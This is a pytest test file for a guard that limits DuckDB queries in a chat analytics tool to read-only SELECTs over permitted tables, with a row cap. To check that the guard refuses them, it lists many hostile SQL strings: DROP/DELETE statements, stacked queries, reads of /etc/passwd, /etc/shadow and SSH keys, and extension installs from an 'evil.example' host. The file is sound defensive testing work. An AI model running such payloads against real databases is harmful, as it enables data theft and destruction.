"""The SQL guard: one read-only query over this chat's own tables, with a row cap.

Every refusal is an UnsafeQueryError whose message names what was refused. The analyst
queries below also run on a real DuckDB in tests/integration/test_warehouse.py.
"""

from __future__ import annotations

import duckdb
import pytest
import sqlglot
from hypothesis import given
from hypothesis import strategies as st

from core.errors import UnsafeQueryError
from core.nl2sql import guard
from core.nl2sql.guard import GuardedQuery, guard_sql

TABLES = ("sales", "customers")
ROW_LIMIT = 100
CAP = f"LIMIT {ROW_LIMIT + 1}"
NOT_READ_ONLY = "Only one read-only query (SELECT) can run; this SQL contains"
NO_FILES = "questions can only read this chat's tables"
NO_PATHS = "Reading files or URLs is not allowed"
NOT_IN_CHAT = "is not in this chat. Tables you can use: customers, sales"
QUALIFIED = "cannot be named with a schema or database"

# (hostile SQL, a part of the refusal message that says what was refused)
BYPASS_ATTEMPTS = [
    # writes and DDL
    ("DROP TABLE sales", f"{NOT_READ_ONLY} DROP."),
    ("DELETE FROM sales", f"{NOT_READ_ONLY} DELETE."),
    ("UPDATE sales SET revenue = 0", f"{NOT_READ_ONLY} UPDATE."),
    ("INSERT INTO sales VALUES (1)", f"{NOT_READ_ONLY} INSERT."),
    ("INSERT INTO sales SELECT * FROM sales", f"{NOT_READ_ONLY} INSERT."),
    ("TRUNCATE sales", f"{NOT_READ_ONLY} TRUNCATE."),
    ("ALTER TABLE sales ADD COLUMN x INT", f"{NOT_READ_ONLY} ALTER."),
    ("ALTER TABLE sales RENAME TO s2", f"{NOT_READ_ONLY} ALTER."),
    ("CREATE TABLE t AS SELECT * FROM sales", f"{NOT_READ_ONLY} CREATE TABLE."),
    ("CREATE OR REPLACE VIEW v AS SELECT 1", f"{NOT_READ_ONLY} CREATE VIEW."),
    ("CREATE MACRO f(a) AS a + 1", f"{NOT_READ_ONLY} CREATE MACRO."),
    ("CREATE MACRO t() AS TABLE SELECT * FROM read_csv('/etc/passwd')", NOT_READ_ONLY),
    ("CREATE TEMP TABLE t (a INT)", f"{NOT_READ_ONLY} CREATE TABLE."),
    ("CREATE SECRET s (TYPE s3, KEY_ID 'k')", NOT_READ_ONLY),
    ("CREATE SEQUENCE s", f"{NOT_READ_ONLY} CREATE SEQUENCE."),
    (
        "MERGE INTO sales USING customers ON true WHEN MATCHED THEN DELETE",
        f"{NOT_READ_ONLY} MERGE.",
    ),
    ("COMMENT ON TABLE sales IS 'x'", f"{NOT_READ_ONLY} COMMENT."),
    ("SELECT * INTO t FROM sales", f"{NOT_READ_ONLY} SELECT INTO."),
    # files out, databases in, extensions, settings
    ("COPY (SELECT 1) TO '/tmp/x.csv'", f"{NOT_READ_ONLY} COPY."),
    ("COPY sales TO '/tmp/sales.parquet' (FORMAT parquet)", f"{NOT_READ_ONLY} COPY."),
    ("COPY sales FROM '/etc/passwd'", f"{NOT_READ_ONLY} COPY."),
    ("COPY (SELECT 1) TO 'data.duckdb' (USE_TMP_FILE false)", f"{NOT_READ_ONLY} COPY."),
    ("EXPORT DATABASE '/tmp/dump'", f"{NOT_READ_ONLY} EXPORT."),
    ("IMPORT DATABASE '/tmp/dump'", f"{NOT_READ_ONLY} IMPORT."),
    ("ATTACH '/tmp/other.duckdb' AS other", f"{NOT_READ_ONLY} ATTACH."),
    ("ATTACH ':memory:' AS m", f"{NOT_READ_ONLY} ATTACH."),
    ("DETACH other", f"{NOT_READ_ONLY} DETACH."),
    ("USE other", f"{NOT_READ_ONLY} USE."),
    ("INSTALL httpfs", f"{NOT_READ_ONLY} INSTALL."),
    ("FORCE INSTALL httpfs FROM 'http://evil.example'", f"{NOT_READ_ONLY} INSTALL."),
    ("LOAD httpfs", f"{NOT_READ_ONLY} LOAD."),
    ("LOAD '/tmp/evil.duckdb_extension'", f"{NOT_READ_ONLY} LOAD."),
    ("SET enable_external_access = true", f"{NOT_READ_ONLY} SET."),
    ("SET GLOBAL memory_limit = '100GB'", f"{NOT_READ_ONLY} SET."),
    ("RESET lock_configuration", f"{NOT_READ_ONLY} RESET."),
    ("PRAGMA database_list", f"{NOT_READ_ONLY} PRAGMA."),
    ("PRAGMA enable_profiling", f"{NOT_READ_ONLY} PRAGMA."),
    ("CALL pragma_version()", f"{NOT_READ_ONLY} CALL."),
    ("CHECKPOINT", f"{NOT_READ_ONLY} CHECKPOINT."),
    ("VACUUM", f"{NOT_READ_ONLY} VACUUM."),
    ("BEGIN TRANSACTION", f"{NOT_READ_ONLY} BEGIN."),
    ("DESCRIBE sales", f"{NOT_READ_ONLY} DESCRIBE."),
    ("SHOW TABLES", f"{NOT_READ_ONLY} SHOW."),
    ("SUMMARIZE sales", f"{NOT_READ_ONLY} SUMMARIZE."),
    ("PIVOT sales ON region USING sum(revenue)", f"{NOT_READ_ONLY} PIVOT."),
    # stacked statements and comment tricks
    ("SELECT 1; DROP TABLE sales", "this SQL holds 2 statements (SELECT, DROP)"),
    ("SELECT 1; SELECT 2", "this SQL holds 2 statements (SELECT, SELECT)"),
    ("SELECT * FROM sales /* ; */; ATTACH 'x.db'", "this SQL holds 2 statements"),
    ("SELECT * FROM sales;\n-- just a comment\nCOPY sales TO 'x.csv'", "2 statements"),
    ("/* SELECT */ DROP TABLE sales", f"{NOT_READ_ONLY} DROP."),
    ("-- SELECT\nDELETE FROM sales", f"{NOT_READ_ONLY} DELETE."),
    # write statements hidden inside a query
    ("WITH x AS (INSERT INTO sales VALUES (1) RETURNING *) SELECT * FROM x", "contains INSERT"),
    ("WITH x AS (DELETE FROM sales RETURNING *) SELECT * FROM x", "contains DELETE"),
    ("SELECT * FROM (DESCRIBE sales)", "contains DESCRIBE"),
    ("SELECT * FROM (SUMMARIZE sales)", "contains SUMMARIZE"),
    ("SELECT * FROM (SHOW TABLES)", "The table `SHOW` is not in this chat"),
    # file, database and system functions, wherever they hide
    ("SELECT * FROM read_csv('/etc/passwd')", f"The function read_csv is not allowed: {NO_FILES}"),
    ("SELECT * FROM read_csv_auto('/etc/passwd')", "read_csv_auto is not allowed"),
    ("SELECT * FROM read_csv(['/etc/passwd', '/etc/hosts'])", "read_csv is not allowed"),
    ("SELECT * FROM read_text('/etc/passwd')", "read_text is not allowed"),
    ("SELECT * FROM read_blob('/etc/shadow')", "read_blob is not allowed"),
    ("SELECT * FROM read_parquet('s3://bucket/x.parquet')", "read_parquet is not allowed"),
    ("SELECT * FROM read_json('http://evil.example/x.json')", "read_json is not allowed"),
    ("SELECT * FROM read_ndjson_auto('/tmp/x.json')", "read_ndjson_auto is not allowed"),
    ("SELECT * FROM parquet_metadata('/tmp/x.parquet')", "parquet_metadata is not allowed"),
    ("SELECT * FROM parquet_schema('/tmp/x.parquet')", "parquet_schema is not allowed"),
    ("SELECT * FROM sqlite_scan('/tmp/x.db', 't')", "sqlite_scan is not allowed"),
    ("SELECT * FROM sqlite_attach('/tmp/x.db')", "sqlite_attach is not allowed"),
    ("SELECT * FROM postgres_scan('dbname=x', 'public', 't')", "postgres_scan is not allowed"),
    ("SELECT * FROM mysql_query('m', 'select 1')", "mysql_query is not allowed"),
    ("SELECT * FROM iceberg_scan('/tmp/ice')", "iceberg_scan is not allowed"),
    ("SELECT * FROM delta_scan('/tmp/delta')", "delta_scan is not allowed"),
    ("SELECT * FROM glob('/etc/*')", f"The function glob is not allowed: {NO_FILES}"),
    ("SELECT * FROM duckdb_settings()", "duckdb_settings is not allowed"),
    ("SELECT * FROM duckdb_databases()", "duckdb_databases is not allowed"),
    ("SELECT * FROM duckdb_tables()", "duckdb_tables is not allowed"),
    ("SELECT * FROM duckdb_extensions()", "duckdb_extensions is not allowed"),
    ("SELECT * FROM pragma_table_info('sales')", "pragma_table_info is not allowed"),
    ("SELECT current_setting('temp_directory')", "current_setting is not allowed"),
    ("SELECT getenv('HOME')", "getenv is not allowed"),
    ("SELECT getvariable('x')", "getvariable is not allowed"),
    ("SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')", "query is not allowed"),
    ("SELECT * FROM query_table('sales')", "query_table is not allowed"),
    ("SELECT * FROM json_execute_serialized_sql('{}')", "json_execute_serialized_sql is not"),
    ("SELECT * FROM sniff_csv('/etc/passwd')", "sniff_csv is not allowed"),
    ("SELECT sleep_ms(100000)", "The function sleep_ms is not available in questions"),
    ("SELECT version()", "version is not available in questions"),
    ("SELECT nextval('seq')", "nextval is not available"),
    ("SELECT * FROM histogram(sales, revenue)", "The table function histogram is not allowed"),
    ("SELECT * FROM repeat_row(1, num_rows := 5)", "repeat_row is not"),
    ("SELECT * FROM sales, LATERAL read_text('/etc/passwd')", "read_text is not allowed"),
    ("SELECT * FROM sales, LATERAL (SELECT * FROM read_text('/etc/passwd'))", "read_text"),
    ("SELECT * FROM sales JOIN read_csv('/etc/passwd') ON true", "read_csv is not allowed"),
    ("SELECT region FROM sales UNION SELECT content FROM read_text('/etc/passwd')", "read_text"),
    ("SELECT * FROM sales WHERE region IN (SELECT column0 FROM read_csv('/x'))", "read_csv"),
    ("SELECT (SELECT content FROM read_text('/etc/passwd'))", "read_text is not allowed"),
    ("WITH f AS (SELECT * FROM read_text('/etc/passwd')) SELECT * FROM f", "read_text"),
    ("SELECT upper((SELECT content FROM read_text('/etc/passwd')))", "read_text"),
    ("SELECT length(read_text('/etc/passwd'))", "read_text is not allowed"),
    ("SELECT EXISTS (SELECT 1 FROM glob('/root/*'))", "glob is not allowed"),
    ("SELECT * FROM (VALUES (1)) t(a), read_blob('/etc/shadow')", "read_blob"),
    ("SELECT main.read_text('/etc/passwd')", "read_text is not allowed"),
    # files and URLs as table names (DuckDB replacement scans)
    (
        "SELECT * FROM '/etc/passwd'",
        f"Reading files or URLs is not allowed (`/etc/passwd`): {NO_FILES}",
    ),
    ("SELECT * FROM 'data.csv'", "Reading files or URLs is not allowed (`data.csv`)"),
    ('SELECT * FROM "secrets.parquet"', "Reading files or URLs is not allowed"),
    ("SELECT * FROM 'http://evil.example/x.csv'", "Reading files or URLs is not allowed"),
    ("SELECT * FROM 's3://bucket/key.parquet'", "Reading files or URLs is not allowed"),
    ("SELECT * FROM '~/.ssh/id_rsa'", "Reading files or URLs is not allowed"),
    ("SELECT * FROM ['/etc/passwd', '/etc/hosts']", "The SQL could not be read"),
    ("SELECT * FROM sales JOIN '/etc/passwd' ON true", "Reading files or URLs is not allowed"),
    ("SELECT * FROM sales WHERE 1 IN (SELECT 1 FROM 'x.csv')", "Reading files or URLs"),
    ('WITH "x.csv" AS (SELECT * FROM "x.csv") SELECT * FROM "x.csv"', "Reading files or URLs"),
    # other tables: schemas, catalogs, system views, other chats
    ("SELECT * FROM main.sales", f"The table `main.sales` {QUALIFIED}"),
    ("SELECT * FROM memory.main.sales", QUALIFIED),
    ("SELECT * FROM ds0.main.data", QUALIFIED),
    ("SELECT * FROM otherdb.data", QUALIFIED),
    ("SELECT * FROM information_schema.tables", QUALIFIED),
    ("SELECT * FROM pg_catalog.pg_class", QUALIFIED),
    ("SELECT * FROM system.main.duckdb_settings", QUALIFIED),
    ("SELECT * FROM duckdb_tables", f"The table `duckdb_tables` {NOT_IN_CHAT}"),
    ("SELECT * FROM duckdb_settings", "The table `duckdb_settings` is not in this chat"),
    ("SELECT * FROM sqlite_master", "The table `sqlite_master` is not in this chat"),
    ("SELECT * FROM pg_tables", "The table `pg_tables` is not in this chat"),
    ("SELECT * FROM data", "The table `data` is not in this chat"),
    ("SELECT * FROM orders", f"The table `orders` {NOT_IN_CHAT}"),
    ("SELECT * FROM sales JOIN other_chat_table USING (id)", "`other_chat_table` is not in"),
    ("SELECT * FROM sales WHERE x IN (SELECT x FROM secret_table)", "`secret_table` is not in"),
    ("SELECT * FROM (WITH t AS (SELECT 1) SELECT 1), t", "The table `t` is not in this chat"),
    ("WITH t AS (SELECT * FROM t) SELECT * FROM t", "The table `t` is not in this chat"),
    ("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "`b` is not in this chat"),
    # syntax outside the allow-list
    ("SELECT * FROM sales AT (VERSION => 1)", "which questions cannot use"),
    ("SELECT $1", "Query parameters and variables are not allowed"),
    ("SELECT ?", "Query parameters and variables are not allowed"),
    # nothing to run, or nothing readable
    ("", "There is no SQL to run."),
    ("   \n ", "There is no SQL to run."),
    (";", "There is no SQL to run."),
    ("SELEC 1", "The SQL could not be read"),
    ("SELECT 'unterminated", "The SQL could not be read"),
    ("SELECT (((1)", "The SQL could not be read"),
]

# Legitimate analyst questions over sales(order_id, order_date, ordered_at, region, product,
# customer_id, quantity, unit_price, revenue, returned) and customers(customer_id, name,
# country, segment, signup_date).
ANALYST_QUERIES = [
    "SELECT count(*) FROM sales",
    "SELECT region, sum(revenue) AS total FROM sales GROUP BY region ORDER BY total DESC",
    "SELECT product, avg(unit_price) FROM sales GROUP BY ALL ORDER BY ALL",
    "SELECT date_trunc('month', order_date) AS month, sum(revenue) FROM sales "
    "GROUP BY 1 ORDER BY 1",
    "SELECT strftime(order_date, '%Y-%m') AS ym, count(*) FROM sales GROUP BY ym",
    "SELECT extract(year FROM order_date) AS y, date_part('quarter', order_date) AS q, "
    "sum(quantity) FROM sales GROUP BY ALL",
    "SELECT year(order_date), month(order_date), dayname(order_date), quarter(order_date) "
    "FROM sales",
    "WITH monthly AS (SELECT date_trunc('month', order_date) AS m, sum(revenue) AS r FROM sales "
    "GROUP BY 1) SELECT m, r, r - lag(r) OVER (ORDER BY m) AS change FROM monthly ORDER BY m",
    "SELECT c.country, sum(s.revenue) FROM sales s JOIN customers c "
    "ON s.customer_id = c.customer_id GROUP BY c.country",
    "SELECT c.name, count(s.order_id) FROM customers c LEFT JOIN sales s USING (customer_id) "
    "GROUP BY c.name HAVING count(s.order_id) > 1",
    "SELECT region, product, revenue, rank() OVER (PARTITION BY region ORDER BY revenue DESC) "
    "AS rnk FROM sales QUALIFY rnk <= 3",
    "SELECT *, row_number() OVER (ORDER BY ordered_at) AS n FROM sales",
    "SELECT CASE WHEN revenue >= 1000 THEN 'large' WHEN revenue >= 100 THEN 'medium' "
    "ELSE 'small' END AS size, count(*) FROM sales GROUP BY size",
    "SELECT region FROM sales UNION ALL SELECT country FROM customers",
    "SELECT customer_id FROM customers EXCEPT SELECT customer_id FROM sales",
    "SELECT customer_id FROM customers INTERSECT SELECT customer_id FROM sales",
    "SELECT * FROM sales WHERE customer_id IN "
    "(SELECT customer_id FROM customers WHERE country = 'France')",
    "SELECT name, (SELECT sum(revenue) FROM sales s WHERE s.customer_id = c.customer_id) "
    "AS spent FROM customers c",
    "SELECT * FROM sales WHERE EXISTS (SELECT 1 FROM customers c "
    "WHERE c.customer_id = sales.customer_id AND c.segment = 'Enterprise')",
    'SELECT "region", "Revenue" FROM "Sales"',
    "SELECT median(revenue), quantile_cont(revenue, 0.9), stddev(revenue), min(order_date), "
    "max(order_date) FROM sales",
    "SELECT product, arg_max(region, revenue), max_by(order_id, revenue) FROM sales "
    "GROUP BY product",
    "SELECT region, string_agg(DISTINCT product, ', ' ORDER BY product) FROM sales GROUP BY region",
    "SELECT region, list(DISTINCT product) FROM sales GROUP BY region",
    "SELECT coalesce(region, 'unknown'), round(avg(unit_price), 2) FROM sales GROUP BY 1",
    "SELECT order_id, CAST(revenue AS DOUBLE) / nullif(quantity, 0) AS per_unit FROM sales",
    "SELECT revenue::INTEGER, try_cast(product AS INTEGER) FROM sales",
    "SELECT upper(product), lower(region), length(product), trim(product), "
    "concat(region, '-', product), left(product, 3), replace(product, 'a', 'A') FROM sales",
    "SELECT * FROM sales WHERE product ILIKE '%widget%' OR regexp_matches(product, '^G')",
    r"SELECT regexp_extract(product, '([A-Z])\w+', 1), "
    r"regexp_replace(region, '\s+', ' ', 'g') FROM sales",
    "SELECT order_date + INTERVAL 7 DAY, date_diff('day', order_date, current_date), "
    "order_date - INTERVAL '1 month' FROM sales",
    "SELECT * FROM sales WHERE order_date BETWEEN DATE '2024-01-01' AND DATE '2024-03-31'",
    "SELECT * FROM sales WHERE ordered_at >= TIMESTAMP '2024-02-01 00:00:00' "
    "ORDER BY ordered_at DESC LIMIT 5",
    "SELECT region, sum(revenue) FILTER (WHERE returned) AS returned_revenue FROM sales "
    "GROUP BY region",
    "SELECT count(DISTINCT customer_id), count_if(returned), bool_or(returned) FROM sales",
    "SELECT region, product, sum(revenue) FROM sales GROUP BY ROLLUP (region, product)",
    "SELECT region, product, sum(revenue) FROM sales "
    "GROUP BY GROUPING SETS ((region), (product), ())",
    "SELECT region, product, sum(revenue) FROM sales GROUP BY CUBE (region, product)",
    "SELECT * FROM sales PIVOT (sum(revenue) FOR region IN ('North', 'South') GROUP BY product)",
    "SELECT * EXCLUDE (returned) FROM sales",
    "SELECT COLUMNS('unit_price|revenue') FROM sales",
    "SELECT sum(revenue) OVER (PARTITION BY region ORDER BY order_date "
    "ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running FROM sales",
    "SELECT region, revenue, percent_rank() OVER (ORDER BY revenue), "
    "ntile(4) OVER (ORDER BY revenue), lead(revenue) OVER (ORDER BY order_date), "
    "first_value(revenue) OVER (PARTITION BY region ORDER BY order_date) FROM sales",
    "WITH RECURSIVE days(d) AS (SELECT DATE '2024-01-01' UNION ALL SELECT d + 1 FROM days "
    "WHERE d < DATE '2024-01-31') SELECT d FROM days",
    "SELECT d.day, count(s.order_id) FROM (SELECT unnest(generate_series(DATE '2024-01-01', "
    "DATE '2024-01-31', INTERVAL 1 DAY)) AS day) d LEFT JOIN sales s ON s.order_date = d.day "
    "GROUP BY d.day",
    "SELECT * FROM range(5) t(n)",
    "SELECT DISTINCT ON (region) region, order_date, revenue FROM sales "
    "ORDER BY region, order_date DESC",
    "SELECT region, count(*) FROM sales GROUP BY region ORDER BY count(*) DESC LIMIT 3 OFFSET 1",
    "(SELECT region FROM sales)",
    "VALUES ('a', 1), ('b', 2)",
    "SELECT s.*, c.name FROM sales AS s INNER JOIN customers AS c "
    "ON c.customer_id = s.customer_id WHERE c.signup_date < s.order_date",
    "SELECT greatest(quantity, 2), least(unit_price, 10), abs(revenue - 100), ceil(unit_price), "
    "floor(unit_price), sqrt(quantity), power(quantity, 2), ln(quantity + 1), quantity % 2 "
    "FROM sales",
    "SELECT if(returned, 'yes', 'no') FROM sales",
    "SELECT region, sum(revenue) / sum(sum(revenue)) OVER () AS share FROM sales GROUP BY region",
    "SELECT * FROM sales ORDER BY revenue DESC NULLS LAST LIMIT 10",
    "SELECT epoch_ms(ordered_at), make_date(2024, 1, 1), last_day(order_date), "
    "strptime('2024-01-05', '%Y-%m-%d') FROM sales",
    "SELECT c.name, top.revenue FROM customers c, LATERAL (SELECT revenue FROM sales s "
    "WHERE s.customer_id = c.customer_id ORDER BY revenue DESC LIMIT 1) top",
    "WITH sales AS (SELECT * FROM sales WHERE region = 'North') SELECT count(*) FROM sales",
    "SELECT * FROM sales JOIN customers USING (customer_id)",
    'SELECT region AS "Sales Region", sum(revenue) AS "Total revenue (€)" FROM sales GROUP BY 1',
    "SELECT order_date::VARCHAR || ' / ' || region FROM sales",
    "SELECT time_bucket(INTERVAL '1 week', ordered_at), count(*) FROM sales GROUP BY 1",
    "SELECT region, max(revenue) FROM sales WHERE revenue > (SELECT avg(revenue) FROM sales) "
    "GROUP BY region",
    "WITH a AS (SELECT * FROM sales), b AS (SELECT region, count(*) AS n FROM a GROUP BY region) "
    "SELECT * FROM b",
    "SELECT date_trunc('week', ordered_at) AS week, count(*) FROM sales GROUP BY ALL ORDER BY week",
    "SELECT region, count(*) AS n FROM sales GROUP BY region HAVING n > 1 ORDER BY n DESC",
    "SELECT * FROM sales LIMIT 20000",
    "SELECT unnest([1, 2, 3]) AS x",
    "SELECT product, sum(quantity) AS units FROM sales WHERE NOT returned AND region <> 'North' "
    "GROUP BY product ORDER BY units DESC LIMIT 5",
    "SELECT [region, product] AS pair, {'id': order_id}.id AS id FROM sales",
    "SELECT list_sum([quantity, 1]), list_transform([1, 2], lambda x: x * quantity) FROM sales",
    "SELECT age(TIMESTAMP '2024-06-01', ordered_at), "
    "date_sub('day', order_date, DATE '2024-06-01') FROM sales",
    "SELECT count(*) FROM sales AS s1 JOIN sales AS s2 ON s1.customer_id = s2.customer_id "
    "AND s1.order_id < s2.order_id",
    "SELECT region, any_value(product), approx_count_distinct(product), mode(product) "
    "FROM sales GROUP BY region",
    "SELECT product, corr(quantity, revenue), regr_slope(revenue, quantity) FROM sales "
    "GROUP BY product",
    "SELECT * FROM customers WHERE country IN ('France', 'Germany') AND name LIKE 'A%' "
    "AND signup_date IS NOT NULL",
    "SELECT monthname(order_date) AS month_name, dayofweek(order_date), week(order_date), "
    "hour(ordered_at) FROM sales",
    "SELECT split_part(product, ' ', 1), starts_with(product, 'G'), contains(product, 'dget'), "
    "lpad(region, 8, '.') FROM sales",
    "SELECT sum(revenue)::DECIMAL(18, 2), avg(quantity)::DOUBLE FROM sales",
    "FROM sales SELECT region, revenue WHERE revenue > 100",
    "-- revenue per region\nSELECT region, sum(revenue) FROM sales /* all rows */ GROUP BY 1;",
    "SELECT region, count(*) FROM sales GROUP BY region; -- grouped by region",
    "TABLE customers",
    "SELECT region, sum(revenue) OVER w FROM sales "
    "WINDOW w AS (PARTITION BY region ORDER BY order_date)",
    "SELECT * FROM sales s ASOF JOIN customers c "
    "ON s.customer_id = c.customer_id AND s.order_date >= c.signup_date",
    "SELECT * FROM sales SEMI JOIN customers USING (customer_id)",
    "SELECT * FROM sales ANTI JOIN customers USING (customer_id)",
    "SELECT [x * 2 FOR x IN [1, 2, 3]] AS doubled",
    "SELECT '{\"a\": 1}'::JSON ->> '$.a' AS a, json_extract_string('{\"b\": 2}', '$.b') AS b",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY revenue) FROM sales",
    "SELECT region FROM sales UNION BY NAME SELECT country AS region FROM customers",
    "SELECT sum(revenue) OVER (ORDER BY order_date RANGE BETWEEN INTERVAL 7 DAY PRECEDING "
    "AND CURRENT ROW) FROM sales",
    "SELECT * FROM generate_series(DATE '2024-01-01', DATE '2024-02-01', INTERVAL 1 WEEK) t(week)",
    "SELECT * FROM unnest(['a', 'b']) AS t(letter)",
    "WITH t AS MATERIALIZED (SELECT * FROM sales) SELECT count(*) FROM t",
    "SELECT * FROM sales WHERE region = $$North$$",
    "SELECT region.upper() AS loud, product.lower().length() AS n FROM sales",
]


def _guard(sql: str, tables=TABLES) -> GuardedQuery:
    return guard_sql(sql, tables, ROW_LIMIT)


@pytest.mark.parametrize(("sql", "reason"), BYPASS_ATTEMPTS, ids=[s for s, _ in BYPASS_ATTEMPTS])
def test_guard_refuses_bypass_attempt_and_says_what_was_refused(sql, reason):
    with pytest.raises(UnsafeQueryError) as refused:
        _guard(sql)
    assert reason in refused.value.message
    assert "Traceback" not in refused.value.message
    assert "<Token" not in refused.value.message


def test_there_are_enough_bypass_attempts_and_analyst_queries():
    assert len(BYPASS_ATTEMPTS) >= 60
    assert len(ANALYST_QUERIES) >= 30


@pytest.mark.parametrize("sql", ANALYST_QUERIES)
def test_guard_accepts_analyst_query(sql):
    guarded = _guard(sql)
    assert guarded.tables <= set(TABLES)
    assert guarded.sql.endswith(f"LIMIT {ROW_LIMIT + 1}") or _user_limit(guarded.sql) <= ROW_LIMIT


@pytest.mark.parametrize("sql", ANALYST_QUERIES)
def test_guard_output_passes_the_guard_again_unchanged(sql):
    guarded = _guard(sql)
    assert _guard(guarded.sql).sql == guarded.sql
    assert _guard(guarded.unlimited_sql).unlimited_sql == guarded.unlimited_sql


def _user_limit(sql: str) -> int:
    limit = sqlglot.parse_one(sql, read="duckdb").args["limit"]
    return int(limit.expression.this)


def test_guard_reports_the_chat_tables_a_query_reads():
    guarded = _guard("SELECT * FROM sales s JOIN customers c USING (customer_id)")
    assert guarded.tables == {"sales", "customers"}
    assert _guard("SELECT 1 + 1").tables == frozenset()
    assert _guard("WITH x AS (SELECT 1) SELECT * FROM x").tables == frozenset()


def test_guard_matches_table_names_case_insensitively_and_reports_their_chat_spelling():
    guarded = guard_sql(
        'SELECT * FROM SALES JOIN "customers" USING (id)', ["Sales", "Customers"], 5
    )
    assert guarded.tables == {"Sales", "Customers"}


def test_guard_refuses_a_table_of_another_chat_even_when_this_chat_has_one():
    with pytest.raises(UnsafeQueryError) as refused:
        guard_sql("SELECT * FROM customers", ["sales"], ROW_LIMIT)
    assert refused.value.message == (
        "The table `customers` is not in this chat. Tables you can use: sales."
    )


def test_guard_says_when_the_chat_has_no_tables_yet():
    with pytest.raises(UnsafeQueryError) as refused:
        guard_sql("SELECT * FROM sales", [], ROW_LIMIT)
    assert "Tables you can use: none yet" in refused.value.message


@pytest.mark.parametrize(
    ("sql", "expected_limit"),
    [
        ("SELECT * FROM sales", ROW_LIMIT + 1),
        ("SELECT * FROM sales LIMIT 5", 5),
        ("SELECT * FROM sales LIMIT 101", 101),
        ("SELECT * FROM sales LIMIT 102", 101),
        ("SELECT * FROM sales LIMIT 1000000", 101),
        ("SELECT * FROM sales ORDER BY revenue LIMIT 3 OFFSET 10", 3),
        ("SELECT region FROM sales UNION ALL SELECT country FROM customers", 101),
        ("SELECT region FROM sales UNION SELECT country FROM customers LIMIT 7", 7),
        ("WITH t AS (SELECT * FROM sales LIMIT 100000) SELECT * FROM t", 101),
        ("(SELECT * FROM sales)", 101),
    ],
)
def test_guard_caps_rows_at_the_limit_plus_one_and_keeps_a_smaller_user_limit(sql, expected_limit):
    assert _user_limit(_guard(sql).sql) == expected_limit


@pytest.mark.parametrize(
    "sql",
    [
        "VALUES (1), (2)",
        "SELECT * FROM sales LIMIT (SELECT 5)",
        "SELECT * FROM sales LIMIT 10%",
        "SELECT * FROM sales FETCH FIRST 500 ROWS ONLY",
    ],
)
def test_guard_wraps_queries_whose_limit_it_cannot_lower(sql):
    guarded = _guard(sql).sql
    assert guarded.startswith("SELECT * FROM (")
    assert guarded.endswith(f") AS guarded LIMIT {ROW_LIMIT + 1}")


def test_guard_keeps_the_offset_of_a_capped_query():
    assert _guard("SELECT * FROM sales LIMIT 500 OFFSET 20").sql.endswith("LIMIT 101 OFFSET 20")


def test_unlimited_sql_is_the_checked_query_without_the_cap():
    guarded = _guard("SELECT region FROM sales")
    assert guarded.unlimited_sql == "SELECT region FROM sales"
    assert _guard("SELECT * FROM sales LIMIT 500").unlimited_sql.endswith("LIMIT 500")


@given(st.integers(min_value=0, max_value=10**9), st.integers(min_value=1, max_value=10**6))
def test_guarded_limit_is_never_above_the_cap_nor_above_the_users_limit(user_limit, row_limit):
    sql = guard_sql(f"SELECT * FROM sales LIMIT {user_limit}", TABLES, row_limit).sql
    assert _user_limit(sql) == min(user_limit, row_limit + 1)


def test_guard_drops_comments_from_the_sql_it_returns():
    guarded = _guard("SELECT region /* ; DROP TABLE sales */ FROM sales -- trailing\n")
    assert "DROP" not in guarded.sql and "/*" not in guarded.sql and "--" not in guarded.sql


def test_guard_strips_a_trailing_semicolon():
    assert ";" not in _guard("SELECT 1;").sql


def test_guard_refuses_sql_too_long_to_check():
    with pytest.raises(UnsafeQueryError, match="too long"):
        _guard("SELECT " + " + ".join(["1"] * 20_000))


def test_guard_refuses_sql_nested_too_deeply_to_check():
    with pytest.raises(UnsafeQueryError, match="could not be read|nested too deeply"):
        _guard("SELECT " + "(" * 5000 + "1" + ")" * 5000)


def test_unparseable_sql_gets_a_short_reason_with_its_position():
    with pytest.raises(UnsafeQueryError) as refused:
        _guard("SELECT * FROM sales WHERE")
    message = refused.value.message
    assert message.startswith("The SQL could not be read: ")
    assert "line 1" in message and "\n" not in message


def test_guard_refuses_a_row_limit_below_one():
    with pytest.raises(ValueError):
        guard_sql("SELECT 1", TABLES, 0)


def test_every_allow_listed_name_is_a_duckdb_function():
    """A typo in the allow-list would silently refuse a function analysts need."""
    con = duckdb.connect()
    try:
        rows = con.execute(
            "SELECT DISTINCT lower(function_name) FROM duckdb_functions() "
            "WHERE function_type IN ('scalar', 'aggregate', 'window', 'macro')"
        ).fetchall()
    finally:
        con.close()
    known = {name for (name,) in rows}
    assert sorted(guard._ANONYMOUS_FUNCTIONS - known) == []


def test_no_allow_listed_name_reaches_outside_the_chat():
    assert not any(guard._reaches_outside(name) for name in guard._ANONYMOUS_FUNCTIONS)


def test_no_function_name_the_guard_accepts_is_a_duckdb_table_or_pragma_function():
    """Table functions in FROM are checked apart: the guard lets only range, generate_series
    and unnest through there (bounded by the sandbox's limits); repeat and histogram are
    also plain scalar and aggregate functions."""
    con = duckdb.connect()
    try:
        rows = con.execute(
            "SELECT DISTINCT lower(function_name) FROM duckdb_functions() "
            "WHERE function_type IN ('table', 'table_macro', 'pragma')"
        ).fetchall()
    finally:
        con.close()
    by_class = {
        name.lower()
        for name, cls in sqlglot.exp.FUNCTION_BY_NAME.items()
        if cls in guard._FUNCTION_CLASSES
    }
    accepted = guard._ANONYMOUS_FUNCTIONS | by_class
    table_like = {name for (name,) in rows} & accepted
    assert table_like <= {"generate_series", "range", "unnest", "repeat", "histogram"}


@pytest.mark.parametrize(
    "cls", sorted(guard._FUNCTION_CLASSES, key=lambda c: c.__name__), ids=lambda c: c.__name__
)
def test_no_allow_listed_function_class_is_a_file_or_system_function(cls):
    assert not any(guard._reaches_outside(name.lower()) for name in cls.sql_names())


def test_sql_within_the_length_limit_passes_even_when_its_rendering_is_longer():
    values = ",".join(str(n) for n in range(9_000))
    sql = f"SELECT * FROM sales WHERE order_id IN ({values})"
    assert len(sql) < guard.MAX_SQL_CHARS < len(_guard(sql).sql)
